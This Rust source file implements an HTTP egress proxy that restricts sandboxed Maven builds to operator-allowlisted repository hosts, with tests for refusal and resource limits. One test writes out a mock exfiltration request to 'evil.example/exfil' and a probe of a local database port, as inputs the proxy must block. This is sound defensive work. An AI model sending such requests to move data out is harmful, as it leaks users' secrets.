//! The only way out of a build's network namespace. The worker runs this HTTP proxy outside
//! the sandbox, on a Unix socket bound into it, and it lets through only the Maven
//! repositories the operator named: `CONNECT host:port` for https, absolute-form requests for
//! http; anything else is refused and remembered for the journal. Inside the sandbox, socat
//! relays the build's `127.0.0.1:3128` to the socket, and a generated global settings file
//! points Maven's proxies there. DNS is resolved here, outside: the build has none.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UnixListener, UnixStream};

/// Maven Central, which Maven uses when no mirror is configured.
const DEFAULT_HOSTS: &[&str] = &["repo.maven.apache.org:443", "repo1.maven.org:443"];
/// Largest request head the proxy reads before it refuses.
const MAX_HEAD: usize = 16 * 1024;
/// Connections one build may hold open at once (each is a descriptor of the worker, which
/// serves webhooks too); Maven uses a handful.
const MAX_CLIENTS: usize = 128;
/// Time a client gets to send its request head.
const HEAD_TIMEOUT: Duration = Duration::from_secs(10);
/// Refused destinations kept for the journal, each cut to [`MAX_REFUSED_CHARS`]; the rest
/// are counted.
const MAX_REFUSED: usize = 100;
const MAX_REFUSED_CHARS: usize = 200;
/// The relay's port inside the sandbox.
pub const RELAY_PORT: u16 = 3128;

/// Hosts (with port) a build may reach.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Allowlist(BTreeSet<String>);

impl Allowlist {
    /// Maven Central plus every repository URL in the operator's settings files (mirrors,
    /// repositories, plugin repositories). A repository's own pom never adds a host.
    pub fn from_settings(files: &[PathBuf]) -> Self {
        let mut hosts: BTreeSet<String> = DEFAULT_HOSTS.iter().map(|h| h.to_string()).collect();
        for file in files {
            let Ok(xml) = std::fs::read_to_string(file) else {
                continue;
            };
            let Ok(doc) = roxmltree::Document::parse(&xml) else {
                continue;
            };
            hosts.extend(
                doc.descendants()
                    .filter(|n| n.tag_name().name() == "url")
                    .filter_map(|n| n.text())
                    .filter_map(host_port_of_url),
            );
        }
        Self(hosts)
    }

    pub fn allows(&self, host_port: &str) -> bool {
        self.0.contains(&host_port.to_ascii_lowercase())
    }
}

/// `https://Host:8443/path` -> `host:8443` (default ports filled in).
fn host_port_of_url(url: &str) -> Option<String> {
    let url = url.trim();
    let (scheme, rest) = url.split_once("://")?;
    let default = match scheme.to_ascii_lowercase().as_str() {
        "https" => 443,
        "http" => 80,
        _ => return None,
    };
    let authority = rest.split(['/', '?', '#']).next()?;
    let authority = authority.rsplit('@').next()?;
    with_default_port(authority, default)
}

fn with_default_port(authority: &str, default: u16) -> Option<String> {
    if authority.is_empty() {
        return None;
    }
    let lower = authority.to_ascii_lowercase();
    let has_port = match lower.strip_prefix('[') {
        Some(v6) => v6.contains("]:"),
        None => lower.contains(':'),
    };
    Some(if has_port {
        lower
    } else {
        format!("{lower}:{default}")
    })
}

/// Maven global settings that send every repository request through the relay.
pub fn maven_proxy_settings() -> String {
    let proxy = |protocol: &str| {
        format!(
            "<proxy><id>uplift-{protocol}</id><active>true</active><protocol>{protocol}</protocol>\
             <host>127.0.0.1</host><port>{RELAY_PORT}</port></proxy>"
        )
    };
    format!(
        "<settings><proxies>{}{}</proxies></settings>\n",
        proxy("https"),
        proxy("http")
    )
}

/// What the proxy refused: the first [`MAX_REFUSED`] destinations, and how many more.
#[derive(Default)]
struct Refused {
    shown: BTreeSet<String>,
    more: usize,
}

impl Refused {
    fn note(&mut self, target: &str) {
        if target.is_empty() {
            return;
        }
        let mut kept: String = target.chars().take(MAX_REFUSED_CHARS).collect();
        if kept.len() < target.len() {
            kept.push('…');
        }
        if self.shown.len() < MAX_REFUSED || self.shown.contains(&kept) {
            self.shown.insert(kept);
        } else {
            self.more += 1;
        }
    }
}

/// A running proxy for one build; stops when dropped.
pub struct EgressProxy {
    task: tokio::task::JoinHandle<()>,
    refused: Arc<Mutex<Refused>>,
}

impl EgressProxy {
    pub fn start(socket: &Path, allow: Allowlist) -> std::io::Result<Self> {
        let listener = UnixListener::bind(socket)?;
        let refused = Arc::new(Mutex::new(Refused::default()));
        let allow = Arc::new(allow);
        let slots = Arc::new(tokio::sync::Semaphore::new(MAX_CLIENTS));
        let task = {
            let refused = refused.clone();
            tokio::spawn(async move {
                while let Ok((mut client, _)) = listener.accept().await {
                    let (allow, refused) = (allow.clone(), refused.clone());
                    let note = move |target: &str| {
                        refused
                            .lock()
                            .unwrap_or_else(|e| e.into_inner())
                            .note(target)
                    };
                    let Ok(slot) = slots.clone().try_acquire_owned() else {
                        note(&format!("(more than {MAX_CLIENTS} connections at once)"));
                        tokio::spawn(async move {
                            let _ = client
                                .write_all(b"HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                                .await;
                        });
                        continue;
                    };
                    tokio::spawn(async move {
                        if let Err(target) = serve(client, &allow).await {
                            note(&target);
                        }
                        drop(slot);
                    });
                }
            })
        };
        Ok(Self { task, refused })
    }

    /// Destinations the build asked for and did not get.
    pub fn refused(&self) -> Vec<String> {
        let refused = self.refused.lock().unwrap_or_else(|e| e.into_inner());
        let mut list: Vec<String> = refused.shown.iter().cloned().collect();
        if refused.more > 0 {
            list.push(format!("… {} more refused", refused.more));
        }
        list
    }
}

impl Drop for EgressProxy {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// One client connection; `Err` names a refused destination.
async fn serve(mut client: UnixStream, allow: &Allowlist) -> Result<(), String> {
    let mut head = Vec::with_capacity(1024);
    let mut buf = [0u8; 4096];
    let end = loop {
        let read = tokio::time::timeout(HEAD_TIMEOUT, client.read(&mut buf)).await;
        let n = match read {
            Ok(Ok(n)) => n,
            Ok(Err(_)) => return Err(String::new()),
            Err(_) => return Err("(no request within the time limit)".into()),
        };
        if n == 0 {
            return Ok(());
        }
        head.extend_from_slice(&buf[..n]);
        if let Some(i) = head.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        if head.len() > MAX_HEAD {
            let _ = client
                .write_all(b"HTTP/1.1 431 Request Header Fields Too Large\r\n\r\n")
                .await;
            return Err("(oversized request)".into());
        }
    };
    let line = String::from_utf8_lossy(&head[..head.iter().position(|&b| b == b'\r').unwrap_or(0)])
        .to_string();
    let mut parts = line.split_whitespace();
    let (method, target) = (parts.next().unwrap_or(""), parts.next().unwrap_or(""));
    let (destination, tunnel) = if method.eq_ignore_ascii_case("CONNECT") {
        (with_default_port(target, 443), true)
    } else {
        (host_port_of_url(target), false)
    };
    let Some(destination) = destination.filter(|d| allow.allows(d)) else {
        let _ = client
            .write_all(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            .await;
        return Err(if target.is_empty() {
            line
        } else {
            target.to_string()
        });
    };
    let Ok(mut upstream) = TcpStream::connect(&destination).await else {
        let _ = client.write_all(b"HTTP/1.1 502 Bad Gateway\r\n\r\n").await;
        return Ok(());
    };
    if tunnel {
        let _ = client
            .write_all(b"HTTP/1.1 200 Connection Established\r\n\r\n")
            .await;
        let _ = upstream.write_all(&head[end..]).await;
    } else {
        // The request goes on as sent: servers must accept the absolute form, and the
        // connection never leaves the allowed host whatever later requests name.
        let _ = upstream.write_all(&head).await;
    }
    let _ = tokio::io::copy_bidirectional(&mut client, &mut upstream).await;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_come_from_urls_with_default_ports() {
        assert_eq!(
            host_port_of_url("https://Nexus.example.com/repository/maven/"),
            Some("nexus.example.com:443".into())
        );
        assert_eq!(
            host_port_of_url("http://user:pw@10.0.0.5:8081/m2"),
            Some("10.0.0.5:8081".into())
        );
        assert_eq!(host_port_of_url("file:///srv/m2"), None);
    }

    #[test]
    fn the_allowlist_is_central_plus_the_operators_settings() {
        let dir = tempfile::tempdir().unwrap();
        let settings = dir.path().join("settings.xml");
        std::fs::write(
            &settings,
            "<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf>\
             <url>https://mirror.example.org/maven2</url></mirror></mirrors></settings>",
        )
        .unwrap();
        let allow = Allowlist::from_settings(&[settings]);
        assert!(allow.allows("mirror.example.org:443"));
        assert!(allow.allows("repo.maven.apache.org:443"));
        assert!(!allow.allows("mirror.example.org:80"));
        assert!(!allow.allows("127.0.0.1:5432"));
    }

    async fn ask(socket: &Path, request: &str) -> String {
        let mut s = UnixStream::connect(socket).await.unwrap();
        s.write_all(request.as_bytes()).await.unwrap();
        let mut out = Vec::new();
        let _ =
            tokio::time::timeout(std::time::Duration::from_secs(5), s.read_to_end(&mut out)).await;
        String::from_utf8_lossy(&out).into_owned()
    }

    #[tokio::test]
    async fn forwards_allowed_hosts_and_refuses_the_rest() {
        let upstream = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let allowed = upstream.local_addr().unwrap().to_string();
        tokio::spawn(async move {
            while let Ok((mut s, _)) = upstream.accept().await {
                let mut buf = [0u8; 1024];
                let n = s.read(&mut buf).await.unwrap_or(0);
                let body = String::from_utf8_lossy(&buf[..n])
                    .lines()
                    .next()
                    .unwrap_or("")
                    .to_string();
                let _ = s
                    .write_all(format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len()).as_bytes())
                    .await;
            }
        });
        let dir = tempfile::tempdir().unwrap();
        let socket = dir.path().join("egress.sock");
        let proxy =
            EgressProxy::start(&socket, Allowlist(BTreeSet::from([allowed.clone()]))).unwrap();
        let get = ask(
            &socket,
            &format!("GET http://{allowed}/junit.pom HTTP/1.1\r\nHost: {allowed}\r\n\r\n"),
        )
        .await;
        assert!(
            get.ends_with(&format!("GET http://{allowed}/junit.pom HTTP/1.1")),
            "{get}"
        );
        let tunnel = ask(
            &socket,
            &format!("CONNECT {allowed} HTTP/1.1\r\n\r\nPING / HTTP/1.1\r\n\r\n"),
        )
        .await;
        assert!(
            tunnel.starts_with("HTTP/1.1 200 Connection Established"),
            "{tunnel}"
        );
        assert!(tunnel.ends_with("PING / HTTP/1.1"), "{tunnel}");
        for denied in [
            "CONNECT 127.0.0.1:5432 HTTP/1.1\r\n\r\n".to_string(),
            "GET http://evil.example/exfil?k=v HTTP/1.1\r\n\r\n".to_string(),
            "GET /relative HTTP/1.1\r\nHost: x\r\n\r\n".to_string(),
        ] {
            assert!(
                ask(&socket, &denied).await.starts_with("HTTP/1.1 403"),
                "{denied}"
            );
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        assert_eq!(
            proxy.refused(),
            vec![
                "/relative",
                "127.0.0.1:5432",
                "http://evil.example/exfil?k=v"
            ]
        );
    }

    /// A build holds connections open without a word, or asks for endless destinations: the
    /// worker's descriptors and memory (and the journal) stay bounded.
    #[tokio::test]
    async fn a_build_cannot_exhaust_the_worker_through_the_proxy() {
        let dir = tempfile::tempdir().unwrap();
        let socket = dir.path().join("egress.sock");
        let proxy = EgressProxy::start(&socket, Allowlist::default()).unwrap();
        let mut idle = Vec::new();
        for _ in 0..MAX_CLIENTS {
            idle.push(UnixStream::connect(&socket).await.unwrap());
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        let busy = ask(&socket, "GET http://x.example/ HTTP/1.1\r\n\r\n").await;
        assert!(busy.starts_with("HTTP/1.1 503"), "{busy}");
        drop(idle);
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        let long = "x".repeat(8000);
        for i in 0..MAX_REFUSED + 50 {
            let denied = ask(
                &socket,
                &format!("CONNECT {i}-{long}.example:443 HTTP/1.1\r\n\r\n"),
            )
            .await;
            assert!(denied.starts_with("HTTP/1.1 403"), "{denied}");
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        let refused = proxy.refused();
        assert_eq!(refused.len(), MAX_REFUSED + 1, "{refused:?}");
        assert!(
            refused
                .iter()
                .all(|r| r.chars().count() <= MAX_REFUSED_CHARS + 1),
            "{refused:?}"
        );
        assert_eq!(refused.last().unwrap(), "… 51 more refused");
    }
}
